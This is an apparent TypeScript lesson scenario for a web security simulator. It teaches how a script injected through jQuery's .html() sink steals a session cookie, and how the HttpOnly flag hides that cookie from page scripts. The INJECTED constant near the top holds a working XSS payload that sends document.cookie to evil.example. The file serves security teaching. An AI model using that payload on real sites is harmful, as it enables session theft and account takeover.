import type { Scenario } from '../scenario';
import { LESSON_START } from './common';

/** The markup an attacker gets into the page; the `.html()` sink would run it. Only simulated. */
const INJECTED =
	'<img src=x onerror="new Image().src=\'http://evil.example/?c=\'+document.cookie">';

/** Lesson i: the book's `.html()` sink, and what HttpOnly hides from scripts. */
export const httpOnly: Scenario = {
	slug: 'httponly',
	title: 'HttpOnly and the injected script',
	summary:
		'A script injected into the page can read cookies and send them away, unless they are HttpOnly.',
	seed: 109,
	start: LESSON_START,
	server: { httpOnly: false },
	views: ['sequence', 'grid'],
	setup: [
		{ type: 'add-network', kind: 'home', name: 'Home Wi-Fi' },
		{ type: 'add-network', kind: 'internet', name: 'Internet' },
		{ type: 'add-device', kind: 'laptop', name: "Alice's laptop", networkId: 'n1' },
		{ type: 'add-device', kind: 'laptop', name: "Mallory's laptop", networkId: 'n2' },
		{ type: 'add-browser', deviceId: 'd1', kind: 'Firefox' },
		{ type: 'add-browser', deviceId: 'd2', kind: 'Chrome' },
		{ type: 'add-person', name: 'Alice', deviceId: 'd1' },
		{ type: 'add-person', name: 'Mallory', deviceId: 'd2', attacker: true }
	],
	steps: [
		{
			narration:
				'In this version of the site, the operator has switched HttpOnly off. Alice saves a note; her cookie comes without HttpOnly.',
			commands: [{ type: 'press-set', browserId: 'b1', code: 'my diary' }],
			notes:
				"The book's server sets HttpOnly by default. We switched it off to see what it protects."
		},
		{
			narration:
				'Mallory sends Alice a "funny code" to paste into the box. It is really HTML with a hidden script. Alice pastes it and presses Set.',
			commands: [{ type: 'press-set', browserId: 'b1', code: INJECTED }],
			notes:
				'In real attacks the markup arrives through a comment, a profile name or a forged request. Session Lab never runs it: the attack is only simulated.'
		},
		{
			narration:
				"Alice presses Get. The book's page writes the answer with jQuery's .html(), which treats it as HTML, so the hidden script runs.",
			setup: [{ type: 'press-get', browserId: 'b1' }],
			commands: [{ type: 'xss', victimBrowserId: 'b1', attackerBrowserId: 'b2' }],
			prediction: {
				question: 'The script reads document.cookie. What does it find?',
				choices: ['Nothing: scripts cannot read cookies', 'The session code', 'Only the page text'],
				answer: 1,
				explanation:
					'Without HttpOnly, page scripts can read the cookie. The script sends the code to Mallory.'
			},
			notes:
				'.text() would have shown the markup as harmless text. The sink, not the cookie, is the real bug; HttpOnly limits the damage.'
		},
		{
			narration: "Mallory presses Get with Alice's code.",
			commands: [{ type: 'press-get', browserId: 'b2' }],
			prediction: {
				question: 'Whom will the server think Mallory is?',
				choices: ['Mallory', 'Alice'],
				answer: 1,
				explanation: "She holds Alice's code, so the server takes her for Alice."
			}
		},
		{
			narration:
				'The operator switches HttpOnly back on and restarts the server, which drops the stolen session.',
			commands: [
				{ type: 'configure-server', changes: { httpOnly: true } },
				{ type: 'restart-server' }
			]
		},
		{
			narration:
				'Alice saves the same pasted code again, and presses Get. The script runs once more.',
			setup: [
				{ type: 'press-set', browserId: 'b1', code: INJECTED },
				{ type: 'press-get', browserId: 'b1' }
			],
			commands: [{ type: 'xss', victimBrowserId: 'b1', attackerBrowserId: 'b2' }],
			prediction: {
				question: 'With HttpOnly on, what does the script find in document.cookie?',
				choices: ['The session code', 'No session code'],
				answer: 1,
				explanation:
					'HttpOnly cookies are sent with requests but hidden from scripts. The script runs, but finds no code to steal.'
			},
			notes:
				"The script can still act inside Alice's page while it is open (send requests as her). HttpOnly stops the theft of the code, not every harm."
		},
		{
			narration: 'Mallory tries her old copy of the code.',
			commands: [{ type: 'press-get', browserId: 'b2' }],
			notes: 'The old session ended with the restart, and she got no new code: she sees null.'
		}
	]
};
